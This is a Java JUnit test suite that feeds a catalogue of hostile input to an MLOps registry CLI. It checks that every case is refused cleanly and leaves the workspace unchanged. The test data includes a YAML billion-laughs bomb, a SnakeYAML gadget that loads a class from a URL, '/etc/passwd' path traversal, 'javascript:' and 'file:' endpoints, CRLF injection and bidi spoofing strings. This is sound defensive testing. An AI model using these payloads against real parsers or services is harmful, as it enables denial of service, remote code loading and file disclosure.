package neural.mlops.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import neural.mlops.registry.TreeSnapshot;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile input driven through the real command line: every case is refused with
 * status 2 and one clear line on stderr naming what is wrong, never a stack trace, and the
 * workspace is unchanged byte for byte (the same workspace serves every case, so the corpus as
 * a whole must leave it unchanged too). Arguments may hold {@code {ws}} (the workspace),
 * {@code {model}} (a valid model file) and {@code {in}} (the folder of prepared input files).
 */
class HostileInputTest {

    @TempDir
    static Path workspace;

    @TempDir
    static Path inputs;

    static Map<String, String> before;

    @BeforeAll
    static void aWorkspaceWithAModelADeploymentAndAuditEvents() throws IOException {
        Path model = Files.writeString(inputs.resolve("model.pt"), "weights");
        run("registry", "register", "--name", "fraud_detector", "--version", "v1.0.0", "--model-path",
                model.toString(), "--framework", "pytorch", "--stage", "production");
        String id = run("deploy", "create", "--model", "fraud_detector", "--version", "v1.0.0", "--env", "production",
                "--endpoint", "http://localhost:8080/predict").out().strip();
        run("deploy", "activate", id);
        run("audit", "log", "--type", "config_changed", "--action", "edit");

        Files.writeString(inputs.resolve("billion-laughs.yaml"), billionLaughs());
        Files.writeString(inputs.resolve("deep.yaml"), "a: " + "[".repeat(200) + "]".repeat(200) + "\n");
        Files.writeString(inputs.resolve("deep-map.yaml"), deepMapYaml(60));
        Files.writeString(inputs.resolve("java-type.yaml"),
                "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        Files.writeString(inputs.resolve("duplicate-keys.yaml"), "epochs: 1\nepochs: 2\n");
        Files.writeString(inputs.resolve("list.yaml"), "- a\n- b\n");
        Files.writeString(inputs.resolve("huge.yaml"), "a: \"" + "x".repeat(1100 * 1024) + "\"\n");
        Files.writeString(inputs.resolve("nan.yaml"), "lr: .nan\n");
        Files.writeString(inputs.resolve("nan-metrics.json"), "{\"accuracy\": NaN}");
        Files.writeString(inputs.resolve("infinite-metrics.json"), "{\"accuracy\": 1e999}");
        Files.writeString(inputs.resolve("duplicate-metrics.json"), "{\"accuracy\": 0.9, \"accuracy\": 0.99}");
        Files.writeString(inputs.resolve("text-metrics.json"), "{\"accuracy\": \"0.9\"}");
        Files.writeString(inputs.resolve("array-metrics.json"), "[0.9]");
        Files.createDirectories(inputs.resolve("a-folder.pt"));
        Files.writeString(inputs.resolve("my model.pt"), "weights");
        Files.writeString(inputs.resolve("config.yaml"), "weights");
        Files.write(inputs.resolve("latin1.yaml"), "owner: Jos\u00e9\n".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        Files.write(inputs.resolve("truncated-utf8.yaml"), new byte[] {'a', ':', ' ', (byte) 0xe2, (byte) 0x82, '\n'});
        Files.writeString(inputs.resolve("trailing-metrics.json"), "{\"accuracy\": 0.9} {\"accuracy\": 0.99}");
        before = TreeSnapshot.of(workspace);
    }

    static Stream<Arguments> refused() {
        List<Arguments> cases = new ArrayList<>();
        // SPEC 2 name rules, as a model name, a version and an environment.
        String[][] names = {
            {"../evil", "must start with an ASCII letter or digit"},
            {"..", "must start with"},
            {"a/b", "only ASCII letters"},
            {"a\\b", "only ASCII letters"},
            {"/etc/passwd", "must start with"},
            {"CON", "Windows reserves"},
            {"nul.txt", "Windows reserves"},
            {"Com1.tar.gz", "Windows reserves"},
            {"lpt9", "Windows reserves"},
            {"COM0", "Windows reserves"},
            {"lpt0.txt", "Windows reserves"},
            {"COM\u00b9", "only ASCII letters"},
            {"lpt\u00b3.log", "only ASCII letters"},
            {"v1.0.", "must not end with '.'"},
            {"v1.0 ", "only ASCII letters"},
            {"v1\u0000", "only ASCII letters"},
            {"v1\nINFO forged", "only ASCII letters"},
            {"v1\r\n", "only ASCII letters"},
            {"\u001b[31mred", "must start with"},
            {"caf\ufffd", "only ASCII letters"},
            {"fr\u0430ud", "only ASCII letters"},
            {"\uff46raud", "must start with an ASCII letter"},
            {"fraud\uff0ev1", "only ASCII letters"},
            {"a\u202egnp", "only ASCII letters"},
            {"x".repeat(129), "at most 128"},
            {"", "it is empty"},
        };
        for (String[] name : names) {
            cases.add(arguments("model name",
                    List.of("registry", "register", "--name", name[0], "--version", "v2.0.0", "--model-path", "{model}",
                            "--framework", "pytorch"), name[1]));
            cases.add(arguments("version", List.of("registry", "register", "--name", "fraud_detector", "--version",
                    name[0], "--model-path", "{model}", "--framework", "pytorch"), name[1]));
            cases.add(arguments("promoted version", List.of("registry", "promote", "fraud_detector", name[0], "--to",
                    "staging"), name[1]));
            cases.add(arguments("environment", List.of("deploy", "create", "--model", "fraud_detector", "--version",
                    "v1.0.0", "--env", name[0], "--endpoint", "http://localhost:8080/"), name[1]));
        }
        // A leading '-': an option to picocli, or refused by the name rule when it is attached.
        cases.add(arguments("leading dash", List.of("registry", "register", "--name=-rf", "--version", "v2.0.0",
                "--model-path", "{model}", "--framework", "pytorch"), "must start with an ASCII letter or digit"));
        cases.add(arguments("leading dash, separate", List.of("registry", "register", "--name", "-rf", "--version",
                "v2.0.0", "--model-path", "{model}", "--framework", "pytorch"), "must start with an ASCII letter"));
        cases.add(arguments("deployment id traversal", List.of("deploy", "activate", "../../etc/passwd"),
                "Invalid deployment id"));
        cases.add(arguments("model file name", List.of("registry", "register", "--name", "fraud_detector", "--version",
                "v2.0.0", "--model-path", "{in}/my model.pt", "--framework", "pytorch"), "Invalid model file name"));
        cases.add(arguments("model file that is a folder", List.of("registry", "register", "--name", "fraud_detector",
                "--version", "v2.0.0", "--model-path", "{in}/a-folder.pt", "--framework", "pytorch"), "is a folder"));
        cases.add(arguments("model file called config.yaml", List.of("registry", "register", "--name",
                "fraud_detector", "--version", "v2.0.0", "--model-path", "{in}/config.yaml", "--framework", "pytorch"),
                "cannot be called config.yaml"));
        cases.add(arguments("model file that is a device", List.of("registry", "register", "--name", "fraud_detector",
                "--version", "v2.0.0", "--model-path", "/dev/zero", "--framework", "pytorch"), "/dev/zero"));

        // config.yaml (registry register --config): bombs, deep nesting, foreign types, size.
        String[][] configs = {
            {"billion-laughs.yaml", "refused"},
            {"deep.yaml", "refused"},
            {"deep-map.yaml", "refused"},
            {"java-type.yaml", "ScriptEngineManager"},
            {"duplicate-keys.yaml", "epochs"},
            {"list.yaml", "expected a mapping"},
            {"huge.yaml", "larger than 1024 KiB"},
            {"nan.yaml", "finite"},
        };
        for (String[] config : configs) {
            cases.add(arguments("config " + config[0], List.of("registry", "register", "--name", "fraud_detector",
                    "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--config",
                    "{in}/" + config[0]), config[1]));
        }
        cases.add(arguments("config in Latin-1", List.of("registry", "register", "--name", "fraud_detector",
                "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--config",
                "{in}/latin1.yaml"), "not valid UTF-8"));
        cases.add(arguments("config with a truncated UTF-8 sequence", List.of("registry", "register", "--name",
                "fraud_detector", "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch",
                "--config", "{in}/truncated-utf8.yaml"), "not valid UTF-8"));
        cases.add(arguments("config that is a device", List.of("registry", "register", "--name", "fraud_detector",
                "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--config", "/dev/zero"),
                "/dev/zero"));

        // Metrics: non-finite, not numbers, duplicate keys.
        for (String metric : List.of("accuracy=NaN", "accuracy=Infinity", "accuracy=-Infinity", "accuracy=1e999",
                "accuracy=0x1p3", "accuracy=1d", "accuracy=", "=0.9", "accuracy")) {
            cases.add(arguments("metric " + metric, List.of("registry", "register", "--name", "fraud_detector",
                    "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--metric", metric),
                    metric.startsWith("accuracy=") ? "Metric 'accuracy'" : "Invalid --metric"));
        }
        String[][] metricFiles = {
            {"nan-metrics.json", "NaN"},
            {"infinite-metrics.json", "finite"},
            {"duplicate-metrics.json", "Duplicate field 'accuracy'"},
            {"text-metrics.json", "finite number"},
            {"array-metrics.json", "JSON object"},
            {"trailing-metrics.json", "more data after the JSON value"},
        };
        for (String[] file : metricFiles) {
            cases.add(arguments("metrics file " + file[0], List.of("registry", "register", "--name", "fraud_detector",
                    "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--metrics-file",
                    "{in}/" + file[0]), file[1]));
        }

        // Audit details: oversized, deeply nested, duplicate keys, not an object.
        cases.add(arguments("details with a huge field", List.of("audit", "log", "--type", "config_changed",
                "--details", "{\"a\": \"" + "x".repeat(5000) + "\"}"), "at most 4096"));
        cases.add(arguments("details over 64 KiB", List.of("audit", "log", "--type", "config_changed",
                "--details", oversizedDetails()), "at most 65536"));
        cases.add(arguments("details over 1 MiB", List.of("audit", "log", "--type", "config_changed",
                "--details", "[" + "0,".repeat(600_000) + "0]"), "at most 64 KiB"));
        cases.add(arguments("details 40 levels deep", List.of("audit", "log", "--type", "config_changed",
                "--details", nested(40)), "nested more than 32 levels"));
        cases.add(arguments("details 5000 levels deep", List.of("audit", "log", "--type", "config_changed",
                "--details", nested(5000)), "not valid JSON"));
        cases.add(arguments("details with duplicate keys", List.of("audit", "log", "--type", "config_changed",
                "--details", "{\"user\": \"alice\", \"user\": \"mallory\"}"), "Duplicate field 'user'"));
        cases.add(arguments("details that are not an object", List.of("audit", "log", "--type", "config_changed",
                "--details", "[1, 2]"), "must be a JSON object"));
        cases.add(arguments("details with NaN", List.of("audit", "log", "--type", "config_changed",
                "--details", "{\"x\": NaN}"), "not valid JSON"));

        // Details with something after the JSON: it would be silently dropped.
        for (String trailing : List.of("{\"a\": 1} {\"a\": 2}", "{\"a\": 1}]", "{\"a\": 1} garbage", "{\"a\": 1} 2")) {
            cases.add(arguments("details with trailing data", List.of("audit", "log", "--type", "config_changed",
                    "--details", trailing), "--details is not valid JSON"));
        }

        // Invisible format characters (bidi overrides, zero-width) that make a value display as another.
        for (String user : List.of("admin\u202egnp", "ad\u200bmin", "\u2066admin\u2069", "admin\ufeff", "admin\u00ad")) {
            cases.add(arguments("invisible user", List.of("--user", user, "audit", "log", "--type", "config_changed"),
                    "Invalid user"));
            cases.add(arguments("invisible user promoting", List.of("--user", user, "registry", "promote",
                    "fraud_detector", "v1.0.0", "--to", "staging"), "Invalid user"));
            cases.add(arguments("invisible resource id", List.of("audit", "log", "--type", "config_changed",
                    "--resource-id", user), "invisible formatting character"));
            cases.add(arguments("invisible tag", List.of("registry", "register", "--name", "fraud_detector",
                    "--version", "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--tag", user),
                    "invisible formatting character"));
            cases.add(arguments("invisible endpoint", List.of("deploy", "create", "--model", "fraud_detector",
                    "--version", "v1.0.0", "--env", "staging", "--endpoint", "http://localhost/" + user),
                    "invisible formatting characters"));
        }

        // Single-line fields with line breaks: no forged lines, no forged events.
        for (String user : List.of("alice\nbob", "alice\r\nseq 99 forged", "alice\u2028bob", "alice\u0085bob",
                "alice\u0000", "", " ", "x".repeat(300), "alice ", " alice", "alice\t", "alice\u00a0", "\u202falice")) {
            cases.add(arguments("user", List.of("--user", user, "audit", "log", "--type", "config_changed"),
                    "Invalid user"));
            cases.add(arguments("user promoting", List.of("--user", user, "registry", "promote", "fraud_detector",
                    "v1.0.0", "--to", "staging"), "Invalid user"));
        }
        for (String creator : List.of("bob ", " bob", "bob\u00a0", " ", "bob\nINFO forged")) {
            cases.add(arguments("creator", List.of("registry", "register", "--name", "fraud_detector", "--version",
                    "v2.0.0", "--model-path", "{model}", "--framework", "pytorch", "--created-by", creator),
                    "Invalid creator (created_by)"));
        }
        for (String reason : List.of("because\nINFO forged", "because\r\n", "because\u2028forged")) {
            cases.add(arguments("promotion reason", List.of("registry", "promote", "fraud_detector", "v1.0.0", "--to",
                    "staging", "--reason", reason), "reason"));
        }
        for (String endpoint : List.of("http://localhost:8080/\r\nX-Forged: 1", "http://localhost/\u2028x",
                "javascript:alert(1)", "file:///etc/passwd", "http://user:secret@localhost/", "localhost:8080",
                "http://", "ftp://localhost/", "http://localhost:99999/")) {
            cases.add(arguments("endpoint", List.of("deploy", "create", "--model", "fraud_detector", "--version",
                    "v1.0.0", "--env", "staging", "--endpoint", endpoint), "Invalid endpoint"));
        }
        cases.add(arguments("ip address", List.of("audit", "log", "--type", "config_changed", "--ip",
                "10.0.0.1\nforged"), "Invalid IP address"));
        for (String[] ip : new String[][] {{"01.2.3.4", "leading zeros"}, {"10.0.0.010", "leading zeros"},
            {"1.2.3.4 ", "spaces around it"}, {" 1.2.3.4", "spaces around it"}, {"1.2.3.4\t", "spaces around it"},
            {"::ffff:01.2.3.4", "without leading zeros"}, {"1.2.3.256", "0-255"}, {"1.2.3", "IPv4 or IPv6"},
            {"localhost", "IPv4 or IPv6"}, {"", "empty"}}) {
            cases.add(arguments("ip address " + ip[0], List.of("audit", "log", "--type", "config_changed", "--ip",
                    ip[0]), ip[1]));
        }
        cases.add(arguments("event type", List.of("audit", "log", "--type", "config_changed\nforged"), "event type"));
        cases.add(arguments("date", List.of("audit", "query", "--since", "2024-13-45"), "Invalid date"));
        return cases.stream();
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("refused")
    @Timeout(60)
    void hostileInputIsRefusedWithStatusTwoAClearLineAndNothingWritten(String what, List<String> args,
                                                                        String mentioned) {
        CliRun run = cli(args);

        assertThat(run.status()).as(what + ": " + run.err()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.errLines()).as(run.err()).hasSize(1);
        assertThat(run.err()).startsWith("neural-mlops: ").contains(mentioned)
                .doesNotContain("Exception", "\tat ", "unexpected error");
        assertOneCleanLine(run.err());
        assertThat(run.out()).isEmpty();
        assertThat(TreeSnapshot.of(workspace)).as("the workspace is unchanged").isEqualTo(before);
    }

    /**
     * Issue 25.12: under a governance policy, {@code --user "bob "} was trimmed to bob, so the
     * command ran, was refused by the policy (status 1) and recorded that refusal, changing the
     * workspace, where the name itself should have been refused as input. Every user name with
     * surrounding or control white space is now refused before the workspace is opened.
     */
    @Test
    void aUserNameWithSurroundingSpaceIsRefusedAsInputUnderAPolicyAndNothingIsWritten() throws IOException {
        Path governed = Files.createDirectories(inputs.resolve("governed-workspace"));
        Files.writeString(governed.resolve("workspace.yaml"), """
                name: governed
                policy:
                  roles:
                    alice: [approver]
                    carol: [approver]
                    bob: [data_scientist]
                  stages:
                    staging:
                      allowed: [data_scientist, approver]
                    production:
                      allowed: [approver]
                      requires_stage: staging
                      approvals: 2
                    archived:
                      allowed: [alice]
                """);
        String model = inputs.resolve("model.pt").toString();
        assertThat(at(governed, "registry", "register", "--name", "m", "--version", "v1", "--model-path", model,
                "--framework", "pytorch", "--stage", "staging").status()).isZero();
        Map<String, String> governedBefore = TreeSnapshot.of(governed);

        for (String user : List.of("bob ", " bob", "alice ", "alice\t", "\talice", "alice\u00a0", "\u00a0", "")) {
            for (List<String> args : List.of(
                    List.of("registry", "promote", "m", "v1", "--to", "archived"),
                    List.of("registry", "promote", "m", "v1", "--to", "production"),
                    List.of("registry", "request", "m", "v1", "--to", "production", "--reason", "r"),
                    List.of("registry", "register", "--name", "m", "--version", "v2", "--model-path", model,
                            "--framework", "pytorch", "--stage", "archived"),
                    List.of("deploy", "create", "--model", "m", "--version", "v1", "--env", "staging", "--endpoint",
                            "http://localhost:8080/"),
                    List.of("audit", "log", "--type", "config_changed"))) {
                List<String> full = new ArrayList<>(List.of("--workspace", governed.toString(), "--user", user));
                full.addAll(args);
                CliRun run = CliRun.of(full.toArray(String[]::new));

                String what = "'" + user + "' " + String.join(" ", args) + ": " + run.err();
                assertThat(run.status()).as(what).isEqualTo(Cli.BAD_INPUT);
                assertThat(run.errLines()).as(what).singleElement().asString().startsWith("neural-mlops: Invalid user");
                assertOneCleanLine(run.err());
                assertThat(TreeSnapshot.of(governed)).as(what).isEqualTo(governedBefore);
            }
        }
    }

    @Test
    void aYamlBombInWorkspaceYamlRefusesEveryCommandThatOpensTheWorkspaceAndChangesNothing() throws IOException {
        Path bombed = Files.createDirectories(inputs.resolve("bombed-workspace"));
        Files.writeString(bombed.resolve("workspace.yaml"), billionLaughs());
        Map<String, String> bombedBefore = TreeSnapshot.of(bombed);

        for (List<String> args : List.of(List.of("registry", "promote", "m", "v1", "--to", "staging"),
                List.of("audit", "log", "--type", "config_changed"), List.of("deploy", "list"))) {
            List<String> full = new ArrayList<>(List.of("--workspace", bombed.toString()));
            full.addAll(args);
            CliRun run = CliRun.of(full.toArray(String[]::new));
            assertThat(run.status()).as(run.err()).isEqualTo(Cli.BAD_INPUT);
            assertThat(run.err()).contains("workspace.yaml").contains("refused").doesNotContain("Exception");
            assertOneCleanLine(run.err());
        }
        assertThat(TreeSnapshot.of(bombed)).isEqualTo(bombedBefore);
    }

    @Test
    void readingTheRegistryNeverParsesWorkspaceYamlSoABombThereIsHarmless() throws IOException {
        Path bombed = Files.createDirectories(inputs.resolve("bombed-listing"));
        Files.writeString(bombed.resolve("workspace.yaml"), billionLaughs());
        Map<String, String> before = TreeSnapshot.of(bombed);

        CliRun run = CliRun.of("--workspace", bombed.toString(), "registry", "list");

        assertThat(run.status()).as(run.err()).isZero();
        assertThat(run.err()).doesNotContain("workspace.yaml");
        assertThat(TreeSnapshot.of(bombed)).isEqualTo(before);
    }

    @Test
    void deeplyNestedWorkspaceYamlIsRefusedToo() throws IOException {
        Path deep = Files.createDirectories(inputs.resolve("deep-workspace"));
        Files.writeString(deep.resolve("workspace.yaml"), "name: deep\npolicy: " + "[".repeat(500) + "]".repeat(500));

        CliRun run = CliRun.of("--workspace", deep.toString(), "deploy", "list");

        assertThat(run.status()).as(run.err()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.err()).contains("workspace.yaml").doesNotContain("Exception");
        assertThat(TreeSnapshot.of(deep)).containsOnlyKeys("", "workspace.yaml");
    }

    /**
     * Free text that may hold line breaks (a description, a reason) or has them removed (the
     * action of an audit event, SPEC 2.3) is accepted, but never forges a line in what the CLI
     * prints or exports, nor a second event.
     */
    @Test
    void lineBreaksInFreeTextForgeNoLineAndNoEvent() throws IOException {
        Path own = Files.createDirectories(inputs.resolve("free-text-workspace"));
        String forged = "FORGED";
        String[] breaks = {"\n", "\r\n", "\r", "\u0085", "\u2028", "\u2029", "\u000b", "\u000c"};
        for (int i = 0; i < breaks.length; i++) {
            String lineBreak = breaks[i];
            String version = "v1." + i + ".0";
            // A description may span lines (CR, LF); other control characters in it are refused.
            boolean multiLine = lineBreak.chars().allMatch(c -> c == '\r' || c == '\n') || lineBreak.equals("\u2028")
                    || lineBreak.equals("\u2029");
            CliRun registered = at(own, "registry", "register", "--name", "fraud_detector", "--version", version,
                    "--model-path", inputs.resolve("model.pt").toString(), "--framework", "pytorch",
                    "--description", "Improved" + lineBreak + forged + " stage: production");
            if (!multiLine) {
                assertThat(registered.status()).as(registered.err()).isEqualTo(Cli.BAD_INPUT);
                assertThat(registered.err()).contains("control characters");
                registered = at(own, "registry", "register", "--name", "fraud_detector", "--version", version,
                        "--model-path", inputs.resolve("model.pt").toString(), "--framework", "pytorch");
            }
            assertThat(registered.status()).as(registered.err()).isZero();
            String id = at(own, "deploy", "create", "--model", "fraud_detector", "--version", version, "--env",
                    "staging", "--endpoint", "http://localhost:8080/").out().strip();
            assertThat(at(own, "deploy", "activate", id, "--reason", "ok" + lineBreak + forged + " status: active")
                    .status()).isZero();
            long events = eventCount(own);
            CliRun logged = at(own, "audit", "log", "--type", "config_changed", "--action", "edit" + lineBreak + forged,
                    "--resource-id", "settings" + lineBreak + forged, "--reason", "why" + lineBreak + forged);
            assertThat(logged.status()).as(logged.err()).isZero();
            assertThat(eventCount(own)).as("one event, not two").isEqualTo(events + 1);

            for (CliRun shown : List.of(at(own, "registry", "show", "fraud_detector", version),
                    at(own, "deploy", "show", id), at(own, "deploy", "list"), at(own, "audit", "query"),
                    at(own, "registry", "list"))) {
                assertThat(shown.status()).isZero();
                assertThat(shown.out().split("\\R")).as(shown.out())
                        .noneMatch(line -> line.strip().startsWith(forged));
            }
            Path jsonl = inputs.resolve("export-" + i + ".jsonl");
            assertThat(at(own, "audit", "export", "--out", jsonl.toString(), "--format", "jsonl").status()).isZero();
            assertThat(Files.readAllLines(jsonl)).as("one line per event").hasSize((int) eventCount(own) - 1);
            Path csv = inputs.resolve("export-" + i + ".csv");
            assertThat(at(own, "audit", "export", "--out", csv.toString(), "--format", "csv").status()).isZero();
            try (var parser = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().get()
                    .parse(Files.newBufferedReader(csv))) {
                assertThat(parser.getRecords()).as("one record per event").hasSize((int) eventCount(own) - 1);
            }
        }
        CliRun verify = at(own, "audit", "verify");
        assertThat(verify.status()).as(verify.out() + verify.err()).isZero();
    }

    private static long eventCount(Path own) {
        return neural.mlops.workspace.Workspace.open(own, "auditor").audit()
                .queryEvents(neural.mlops.audit.AuditFilter.all()).size();
    }

    private static CliRun at(Path own, String... args) {
        List<String> full = new ArrayList<>(List.of("--workspace", own.toString(), "--user", "alice"));
        full.addAll(List.of(args));
        return CliRun.of(full.toArray(String[]::new));
    }

    /** The error stays one line of printable text: nothing in it can start a line of its own or hide. */
    static void assertOneCleanLine(String err) {
        String line = err.endsWith("\n") ? err.substring(0, err.length() - 1) : err;
        assertThat(line.codePoints().filter(cp -> Character.isISOControl(cp)
                || Character.getType(cp) == Character.LINE_SEPARATOR
                || Character.getType(cp) == Character.PARAGRAPH_SEPARATOR
                || Character.getType(cp) == Character.FORMAT)).as(line).isEmpty();
    }

    static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        return yaml.toString();
    }

    static String deepMapYaml(int depth) {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.append("  ".repeat(depth)).append("v\n").toString();
    }

    static String nested(int depth) {
        return "{\"a\": ".repeat(depth) + "1" + "}".repeat(depth);
    }

    static String oversizedDetails() {
        StringBuilder json = new StringBuilder("{");
        for (int i = 0; i < 20; i++) {
            json.append(i == 0 ? "" : ",").append("\"k").append(i).append("\": \"").append("x".repeat(4000)).append('"');
        }
        return json.append('}').toString();
    }

    private static CliRun cli(List<String> args) {
        List<String> full = new ArrayList<>(List.of("--workspace", workspace.toString()));
        if (!args.contains("--user")) {
            full.addAll(List.of("--user", "alice"));
        }
        for (String arg : args) {
            full.add(arg.replace("{model}", inputs.resolve("model.pt").toString()).replace("{in}", inputs.toString())
                    .replace("{ws}", workspace.toString()));
        }
        return CliRun.of(full.toArray(String[]::new));
    }

    private static CliRun run(String... args) {
        CliRun run = cli(List.of(args));
        assertThat(run.status()).as(String.join(" ", args) + ": " + run.err()).isZero();
        return run;
    }
}
